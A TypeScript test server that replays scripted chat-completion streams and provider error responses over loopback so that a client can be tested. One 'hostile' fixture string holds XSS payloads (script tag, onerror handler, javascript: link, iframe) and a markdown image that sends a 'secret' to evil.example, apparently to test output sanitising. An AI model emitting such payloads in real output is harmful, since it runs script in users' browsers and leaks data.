// A model server for tests: plays named scenarios of chat completions, and any provider's answers byte by byte, over
// real HTTP, on loopback only.
import { createServer, type IncomingHttpHeaders, type IncomingMessage, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { gzipSync } from 'node:zlib';
import { classifies, NOTHING_CHANGED } from './classified.ts';

/** One request as it arrived. */
export interface RecordedRequest {
	readonly method: string;
	/** Path with the scenario, such as `/whole/v1/chat/completions`. */
	readonly path: string;
	/** With its question mark, or empty. */
	readonly query: string;
	readonly headers: IncomingHttpHeaders;
	readonly body: string;
	/** The client closed the connection before the answer was complete. */
	readonly closedEarly: boolean;
	/** When the connection was closed, by `performance.now()`; null while it is open. */
	readonly closedAt: number | null;
}

/** An answer of any provider, byte by byte. */
export interface RawAnswer {
	/** 200 unless told. */
	readonly status?: number;
	/** `text/event-stream` unless told. */
	readonly contentType?: string;
	readonly body: string | Uint8Array;
	readonly gzip?: boolean;
	/**
	 * The connection stays open after the last byte, until the client hangs up: in silence, or with comments. `mute`: there
	 * is not even a first byte, nor a status.
	 */
	readonly stays?: 'silent' | 'speaking' | 'mute';
}

export interface ReplayOptions {
	/** 0, the default, takes any free port. */
	readonly port?: number;
	/** Streams served as `/recorded/<name>/v1`: one JSON payload per entry, `[DONE]` is added. */
	readonly recorded?: Readonly<Record<string, readonly string[]>>;
	/** Plain JSON bodies served as `/body/<name>/v1`. */
	readonly bodies?: Readonly<Record<string, { readonly status: number; readonly body: string }>>;
	/**
	 * Answers to whatever is asked below `/raw/<name>/v1`, or below `/raw/by-model/v1` of a model of that name. `before`:
	 * how often that address was asked already.
	 */
	readonly raw?: Readonly<
		Record<string, RawAnswer | ((asked: RecordedRequest, before: number) => RawAnswer)>
	>;
	/** Pause between tokens of `slow`, in milliseconds. */
	readonly slowMs?: number;
}

export interface ReplayServer {
	/** Such as `http://127.0.0.1:41873`; a scenario's base address is `${url}/<scenario>/v1`. */
	readonly url: string;
	/** All but what classifiers asked. */
	readonly requests: readonly RecordedRequest[];
	/** What classifiers asked of scenarios: they are answered that nothing changed, whatever the scenario says. */
	readonly decisions: readonly RecordedRequest[];
	/** Base address of a scenario; with `pieces`, its bytes come in pieces of that size. */
	base(scenario: string, pieces?: 1 | 7): string;
	/** Lets `stepped` say that many more words, to whoever is or will be listening. */
	step(words: number): void;
	/** What the base address of `chosen` plays from now on, as if it was never asked before. */
	choose(scenario: string, pieces?: 1 | 7): void;
	/** Ends the server and every open connection. */
	close(): Promise<void>;
}

/** What the streams of the scenarios say, for comparison. */
export const REPLAY_TEXT = {
	whole: 'The door opens. "You came back," she says, *and means it*.',
	unicode: 'Family 👨‍👩‍👧‍👦, flag 🇺🇦🇯🇵, wave 👋🏽, e\u0301, שלום \u200Fעולם, مرحبا, 日本語, \u2028 line, 𝒳 end.',
	hostile:
		'<script>alert(1)</script> <img src=x onerror=alert(2)> ![a](https://evil.example/?q=secret) ' +
		'[go](javascript:alert(3)) <iframe src="//evil.example"></iframe> {{user}} </p><style>*{}</style> data: [DONE]',
	thinkWord: 'He wrote <think> on the wall. And then he left.',
	thinkOpen: '<think> was the first word on the wall.',
	beforeCut: 'The lamp goes out and',
	slow: Array.from({ length: 60 }, (_, index) => `word${index} `).join(''),
	stepped: 'One lamp burns on. 👨‍👩‍👧‍👦 🇺🇦 caf\u0065\u0301 שלום مرحبا 日本語 𝒳 — and the tide turns at last.',
	big: Array.from({ length: 4700 }, (_, index) => `Sentence ${index} of a very long reply, é 🙂. `).join('')
} as const;

/** What a preflight is told: each provider, known by its key's header, has its own list. User-agent occurs in none. */
const allowedHeaders = (wanted: string): string => {
	if (wanted.includes('x-goog-api-key'))
		return 'content-type, authorization, x-goog-api-key, x-goog-api-client';
	if (wanted.includes('x-api-key') || wanted.includes('anthropic-version'))
		return 'content-type, x-api-key, anthropic-version, anthropic-dangerous-direct-browser-access';
	// as Mistral and OpenRouter do
	return 'authorization, content-type';
};

const chunk = (delta: Record<string, unknown>, finish: string | null = null): string =>
	JSON.stringify({
		id: 'chatcmpl-1',
		object: 'chat.completion.chunk',
		created: 1700000000,
		model: 'replay',
		choices: [{ index: 0, delta, finish_reason: finish }]
	});

const USAGE = JSON.stringify({
	id: 'chatcmpl-1',
	object: 'chat.completion.chunk',
	created: 1700000000,
	model: 'replay',
	choices: [],
	usage: { prompt_tokens: 42, completion_tokens: 7, total_tokens: 49 }
});

/** Cuts by code units, through emoji and words alike: servers do not care where a character ends. */
const tokens = (text: string, size = 5): readonly string[] =>
	Array.from({ length: Math.ceil(text.length / size) }, (_, index) =>
		text.slice(index * size, (index + 1) * size)
	);

const said = (text: string, size?: number): readonly string[] => [
	chunk({ role: 'assistant', content: '' }),
	...tokens(text, size).map((content) => chunk({ content }))
];

const finished = (text: string, size?: number): readonly string[] => [
	...said(text, size),
	chunk({}, 'stop'),
	USAGE,
	'[DONE]'
];

const events = (payloads: readonly string[]): string =>
	payloads.map((payload) => `data: ${payload}\n\n`).join('');

const errorBody = (message: string, type: string, code: string | number | null): string =>
	JSON.stringify({ error: { message, type, param: null, code } });

/** Where an answer ends too soon: `end` as if it were complete, `sever` by breaking the connection. */
interface Cut {
	readonly how: 'end' | 'sever';
	readonly at: number;
}

interface Exchange {
	readonly response: ServerResponse;
	readonly pieces: number | null;
	readonly cors: Readonly<Record<string, string>>;
	/** Body of the request. */
	readonly asked: string;
	/** How often this scenario was asked before. */
	readonly before: number;
	readonly gone: AbortSignal;
	/** Settles when the test lets the next word go. */
	readonly nextStep: () => Promise<void>;
}

const isGone = (exchange: Exchange): boolean => exchange.gone.aborted || exchange.response.destroyed;

const writePieces = async (exchange: Exchange, bytes: Buffer): Promise<void> => {
	const size = exchange.pieces ?? bytes.length;
	for (let at = 0; at < bytes.length && !isGone(exchange); at += size) {
		exchange.response.write(bytes.subarray(at, at + size));
		// lets each piece leave by itself
		if (exchange.pieces !== null) await new Promise((resolve) => setImmediate(resolve));
	}
};

const startStream = (exchange: Exchange): void => {
	exchange.response.writeHead(200, {
		...exchange.cors,
		'content-type': 'text/event-stream; charset=utf-8',
		'cache-control': 'no-store'
	});
	exchange.response.flushHeaders();
};

const stream = async (exchange: Exchange, payloads: readonly string[]): Promise<void> => {
	startStream(exchange);
	await writePieces(exchange, Buffer.from(events(payloads)));
	exchange.response.end();
};

const plain = (
	exchange: Exchange,
	status: number,
	body: string,
	headers: Readonly<Record<string, string>> = {}
): void => {
	exchange.response.writeHead(status, { ...exchange.cors, 'content-type': 'application/json', ...headers });
	exchange.response.end(body);
};

const playRaw = async (exchange: Exchange, answer: RawAnswer, cut: Cut | null): Promise<void> => {
	if (answer.stays === 'mute') {
		await waitUntilGone(exchange);
		return;
	}
	const whole = Buffer.from(answer.body);
	const bytes = answer.gzip === true ? gzipSync(whole) : whole;
	exchange.response.writeHead(answer.status ?? 200, {
		...exchange.cors,
		'content-type': answer.contentType ?? 'text/event-stream; charset=utf-8',
		'cache-control': 'no-store',
		...(answer.gzip === true ? { 'content-encoding': 'gzip' } : {})
	});
	exchange.response.flushHeaders();
	await writePieces(exchange, cut === null ? bytes : bytes.subarray(0, cut.at));
	if (answer.stays === 'silent') await waitUntilGone(exchange);
	while (answer.stays === 'speaking' && !isGone(exchange)) {
		exchange.response.write(': still here\n\n');
		await sleep(50);
	}
	if (cut?.how === 'sever') {
		// lets what was written leave first
		await sleep(30);
		exchange.response.destroy();
	} else exchange.response.end();
};

const waitUntilGone = (exchange: Exchange): Promise<void> =>
	new Promise((resolve) => {
		if (isGone(exchange)) resolve();
		else exchange.gone.addEventListener('abort', () => resolve(), { once: true });
	});

const RATE_LIMIT = errorBody('Rate limit reached for requests', 'requests', 'rate_limit_exceeded');

const SCENARIOS: Readonly<Record<string, (exchange: Exchange, slowMs: number) => Promise<void> | void>> = {
	whole: (exchange) => stream(exchange, finished(REPLAY_TEXT.whole)),
	unicode: (exchange) => stream(exchange, finished(REPLAY_TEXT.unicode)),
	/** A surrogate pair written as two escapes in two events. */
	'split-escape': (exchange) =>
		stream(exchange, [
			'{"choices":[{"index":0,"delta":{"content":"a\\ud83d"},"finish_reason":null}]}',
			'{"choices":[{"index":0,"delta":{"content":"\\ude00b"},"finish_reason":null}]}',
			chunk({}, 'stop'),
			'[DONE]'
		]),
	hostile: (exchange) => stream(exchange, finished(REPLAY_TEXT.hostile)),
	big: (exchange) => stream(exchange, finished(REPLAY_TEXT.big, 37)),
	empty: (exchange) =>
		stream(exchange, [chunk({ role: 'assistant', content: '' }), chunk({}, 'stop'), USAGE, '[DONE]']),
	blank: (exchange) => stream(exchange, finished(' \n\n\t ')),
	nothing: (exchange) => stream(exchange, ['[DONE]']),
	'max-tokens': (exchange) =>
		stream(exchange, [...said(REPLAY_TEXT.beforeCut), chunk({}, 'length'), USAGE, '[DONE]']),
	filtered: (exchange) =>
		stream(exchange, [...said(REPLAY_TEXT.beforeCut), chunk({}, 'content_filter'), '[DONE]']),
	reasoning: (exchange) =>
		stream(exchange, [
			chunk({ role: 'assistant', reasoning_content: 'She would ' }),
			chunk({ reasoning_content: 'be glad.' }),
			...finished(REPLAY_TEXT.whole)
		]),
	/** Thinks at once, and speaks after the test allows one step. */
	thinks: async (exchange) => {
		startStream(exchange);
		exchange.response.write(events([chunk({ role: 'assistant', reasoning_content: 'She would be glad.' })]));
		await exchange.nextStep();
		if (isGone(exchange)) return;
		exchange.response.end(events(finished(REPLAY_TEXT.whole)));
	},
	think: (exchange) => stream(exchange, finished(`<think>She would be glad.</think>${REPLAY_TEXT.whole}`)),
	'think-word': (exchange) => stream(exchange, finished(REPLAY_TEXT.thinkWord)),
	'think-open': (exchange) => stream(exchange, finished(REPLAY_TEXT.thinkOpen)),
	'think-cut': (exchange) =>
		stream(exchange, [...said('<think>She would be'), chunk({}, 'length'), USAGE, '[DONE]']),
	comments: async (exchange) => {
		startStream(exchange);
		const noisy = finished(REPLAY_TEXT.whole).map(
			(payload) => `: OPENROUTER PROCESSING\r\n\r\ndata: ${payload}\r\n\r\n`
		);
		await writePieces(exchange, Buffer.from(noisy.join('')));
		exchange.response.end();
	},
	'whole-json': (exchange) =>
		plain(
			exchange,
			200,
			JSON.stringify({
				id: 'chatcmpl-1',
				object: 'chat.completion',
				created: 1700000000,
				model: 'replay',
				choices: [
					{ index: 0, message: { role: 'assistant', content: REPLAY_TEXT.whole }, finish_reason: 'stop' }
				],
				usage: { prompt_tokens: 42, completion_tokens: 7, total_tokens: 49 }
			})
		),
	cut: async (exchange) => {
		startStream(exchange);
		await writePieces(exchange, Buffer.from(events(said(REPLAY_TEXT.beforeCut))));
		await sleep(20);
		exchange.response.destroy();
	},
	'cut-first': async (exchange) => {
		if (exchange.before > 0) return stream(exchange, finished(REPLAY_TEXT.whole));
		startStream(exchange);
		await sleep(20);
		exchange.response.destroy();
	},
	'clean-eof': (exchange) => stream(exchange, said(REPLAY_TEXT.beforeCut)),
	stalled: async (exchange) => {
		startStream(exchange);
		await writePieces(exchange, Buffer.from(events(said(REPLAY_TEXT.beforeCut))));
		await waitUntilGone(exchange);
	},
	hung: (exchange) => waitUntilGone(exchange),
	slow: async (exchange, slowMs) => {
		startStream(exchange);
		for (const token of REPLAY_TEXT.slow.match(/\S+\s/gu) ?? []) {
			if (isGone(exchange)) return;
			exchange.response.write(events([chunk({ content: token })]));
			await sleep(slowMs);
		}
		exchange.response.end(events([chunk({}, 'stop'), USAGE, '[DONE]']));
	},
	/** One word for each step the test allows, and the end after the last. */
	stepped: async (exchange) => {
		startStream(exchange);
		for (const word of REPLAY_TEXT.stepped.match(/\S+\s*/gu) ?? []) {
			await exchange.nextStep();
			if (isGone(exchange)) return;
			exchange.response.write(events([chunk({ content: word })]));
		}
		exchange.response.end(events([chunk({}, 'stop'), USAGE, '[DONE]']));
	},
	/** Echoes the key it was given, as some providers do. */
	'401': (exchange) => {
		const key = (exchange.response.req.headers.authorization ?? '').replace(/^Bearer /u, '');
		plain(
			exchange,
			401,
			errorBody(`Incorrect API key provided: ${key}.`, 'invalid_request_error', 'invalid_api_key')
		);
	},
	'401-no-cors': (exchange) => {
		exchange.response.writeHead(401, { 'content-type': 'application/json' });
		exchange.response.end(
			errorBody('Incorrect API key provided.', 'invalid_request_error', 'invalid_api_key')
		);
	},
	/** A server that never heard of other origins. */
	'no-cors': (exchange) => stream(exchange, finished(REPLAY_TEXT.whole)),
	'402': (exchange) => plain(exchange, 402, errorBody('Insufficient credits', 'payment', 402)),
	'403-org': (exchange) =>
		plain(
			exchange,
			403,
			errorBody(
				'CORS requests are not allowed for this Organization because of its settings',
				'authentication_error',
				null
			)
		),
	'429-quota': (exchange) =>
		plain(
			exchange,
			429,
			errorBody(
				'You exceeded your current quota, please check your plan.',
				'insufficient_quota',
				'insufficient_quota'
			)
		),
	'429': (exchange) => plain(exchange, 429, RATE_LIMIT),
	'429-retry-after': (exchange) => {
		const headers = { 'retry-after': '2', 'access-control-expose-headers': 'retry-after' };
		if (exchange.before > 0) void stream(exchange, finished(REPLAY_TEXT.whole));
		else plain(exchange, 429, RATE_LIMIT, headers);
	},
	/** Asks for more patience than a test has. */
	'429-patient': (exchange) => {
		const headers = { 'retry-after': '50', 'access-control-expose-headers': 'retry-after' };
		if (exchange.before > 0) void stream(exchange, finished(REPLAY_TEXT.whole));
		else plain(exchange, 429, RATE_LIMIT, headers);
	},
	'500-then-ok': (exchange) =>
		exchange.before > 0
			? stream(exchange, finished(REPLAY_TEXT.whole))
			: plain(exchange, 500, errorBody('The server had an error', 'server_error', null)),
	'529': (exchange) => plain(exchange, 529, errorBody('Overloaded', 'overloaded_error', null)),
	'context-too-long': (exchange) =>
		plain(
			exchange,
			400,
			errorBody(
				"This model's maximum context length is 8192 tokens.",
				'invalid_request_error',
				'context_length_exceeded'
			)
		),
	/** Echoes the whole request. */
	'bad-request': (exchange) => {
		plain(exchange, 400, errorBody(`Bad parameter in ${exchange.asked}`, 'invalid_request_error', null));
	},
	'wrong-model': (exchange) =>
		plain(exchange, 404, errorBody('model "replay" not found, try pulling it first', 'api_error', null)),
	'wrong-model-400': (exchange) => plain(exchange, 400, errorBody('replay is not a valid model ID', '', 400)),
	'wrong-path': (exchange) => plain(exchange, 404, JSON.stringify({ detail: 'Not Found' })),
	'error-event': (exchange) =>
		stream(exchange, [
			...said(REPLAY_TEXT.beforeCut),
			errorBody('Provider disconnected unexpectedly', 'server_error', 502)
		]),
	'error-event-first': (exchange) =>
		exchange.before > 0
			? stream(exchange, finished(REPLAY_TEXT.whole))
			: stream(exchange, [errorBody('The engine is currently overloaded', 'overloaded_error', null)]),
	html: (exchange) => {
		exchange.response.writeHead(200, { ...exchange.cors, 'content-type': 'text/html' });
		exchange.response.end('<!doctype html><title>Welcome to nginx</title><p>It works.</p>');
	},
	'not-json': (exchange) => stream(exchange, ['Hello, I am a teapot']),
	'other-json': (exchange) => plain(exchange, 200, JSON.stringify({ status: 'ok' })),
	redirect: (exchange) => {
		exchange.response.writeHead(307, { ...exchange.cors, location: '/whole/v1/chat/completions' });
		exchange.response.end();
	}
};

/** Gemini has the model in the address, all others in the body. */
const modelAsked = (path: string, body: string): string =>
	/\/models\/([^/:]+):/u.exec(path)?.[1] ?? /"model":"([^"]+)"/u.exec(body)?.[1] ?? '';

const readBody = async (request: IncomingMessage): Promise<string> => {
	const parts: Buffer[] = [];
	for await (const part of request as AsyncIterable<Uint8Array>) parts.push(Buffer.from(part));
	return Buffer.concat(parts).toString('utf8');
};

/**
 * Starts the server. A base address is `/<scenario>/v1`, `/1/<scenario>/v1` or `/7/<scenario>/v1` (bytes in pieces),
 * `/recorded/<name>/v1`, `/body/<name>/v1`, `/raw/<name>/v1`, `/end/<bytes>/raw/<name>/v1` and `/sever/<bytes>/raw/<name>/v1`
 * (cut there), or `/chosen/v1`. Every answer but those of `401-no-cors` and `no-cors` carries
 * CORS headers; preflights are answered from a fixed list of headers, but `no-cors` does not know them.
 */
export const startReplayServer = async (options: ReplayOptions = {}): Promise<ReplayServer> => {
	const requests: RecordedRequest[] = [];
	const decisions: RecordedRequest[] = [];
	const counts = new Map<string, number>();
	let steps = 0;
	let stepped: () => void = () => undefined;

	const nextStep = async (gone: AbortSignal): Promise<void> => {
		while (steps === 0 && !gone.aborted) {
			await new Promise<void>((resolve) => {
				stepped = () => {
					gone.removeEventListener('abort', stepped);
					resolve();
				};
				gone.addEventListener('abort', stepped, { once: true });
			});
		}
		if (!gone.aborted) steps -= 1;
	};
	let chosen: readonly string[] = ['whole'];

	const answer = async (request: IncomingMessage, response: ServerResponse): Promise<void> => {
		const { pathname: path, search: query } = new URL(request.url ?? '/', 'http://127.0.0.1');
		const asked = path.split('/').filter((word) => word !== '');
		const words = asked[0] === 'chosen' ? [...chosen, ...asked.slice(1)] : asked;
		const pieces = words[0] === '1' || words[0] === '7' ? Number(words.shift()) : null;
		const how = words[0];
		const cut: Cut | null = how === 'end' || how === 'sever' ? { how, at: Number(words[1]) } : null;
		if (cut !== null) words.splice(0, 2);
		const [name = '', which = ''] = words;
		const allowed = { 'access-control-allow-origin': request.headers.origin ?? '*' };
		const cors: Record<string, string> = name === '401-no-cors' || name === 'no-cors' ? {} : allowed;
		if (request.method === 'OPTIONS') {
			response.writeHead(204, {
				...(name === 'no-cors' ? {} : allowed),
				'access-control-allow-headers': allowedHeaders(
					request.headers['access-control-request-headers'] ?? ''
				),
				'access-control-allow-methods': 'POST, GET, OPTIONS'
			});
			response.end();
			return;
		}
		const record: { -readonly [Key in keyof RecordedRequest]: RecordedRequest[Key] } = {
			method: request.method ?? '',
			path,
			query,
			headers: request.headers,
			body: '',
			closedEarly: false,
			closedAt: null
		};
		const gone = new AbortController();
		response.on('close', () => {
			record.closedEarly = !response.writableFinished;
			record.closedAt = performance.now();
			gone.abort();
		});
		record.body = await readBody(request);
		const scenario = path.endsWith('/chat/completions') ? SCENARIOS[name] : undefined;
		const decides = scenario !== undefined && classifies(record.body);
		(decides ? decisions : requests).push(record);
		const place = words.join('/');
		const before = counts.get(place) ?? 0;
		if (!decides) counts.set(place, before + 1);
		const exchange: Exchange = {
			response,
			pieces,
			cors,
			before,
			asked: record.body,
			gone: gone.signal,
			nextStep: () => nextStep(gone.signal)
		};
		const recorded = name === 'recorded' ? options.recorded?.[which] : undefined;
		const body = name === 'body' ? options.bodies?.[which] : undefined;
		const raw =
			name === 'raw'
				? options.raw?.[which === 'by-model' ? modelAsked(path, record.body) : which]
				: undefined;
		if (decides)
			await stream(exchange, [...said(NOTHING_CHANGED, NOTHING_CHANGED.length), chunk({}, 'stop'), '[DONE]']);
		else if (name === 'redirect-all') await SCENARIOS['redirect']?.(exchange, 0);
		else if (raw !== undefined)
			await playRaw(exchange, typeof raw === 'function' ? raw(record, before) : raw, cut);
		else if (recorded !== undefined) await stream(exchange, [...recorded, '[DONE]']);
		else if (body !== undefined) plain(exchange, body.status, body.body);
		else if (scenario !== undefined) await scenario(exchange, options.slowMs ?? 5);
		else plain(exchange, 404, JSON.stringify({ detail: 'Not Found' }));
	};

	const server = createServer((request, response) => {
		answer(request, response).catch((error: unknown) => {
			console.error('replay server:', error);
			response.destroy();
		});
	});
	await new Promise<void>((resolve, reject) => {
		server.once('error', reject);
		server.listen(options.port ?? 0, '127.0.0.1', resolve);
	});
	const { port } = server.address() as AddressInfo;
	const url = `http://127.0.0.1:${port}`;

	return {
		url,
		requests,
		decisions,
		base: (scenario, pieces) => `${url}/${pieces === undefined ? '' : `${pieces}/`}${scenario}/v1`,
		step: (words) => {
			steps += words;
			stepped();
		},
		choose: (scenario, pieces) => {
			chosen = [...(pieces === undefined ? [] : [String(pieces)]), ...scenario.split('/')];
			counts.clear();
		},
		close: () =>
			new Promise((resolve, reject) => {
				server.close((error) => (error === undefined ? resolve() : reject(error)));
				server.closeAllConnections();
			})
	};
};
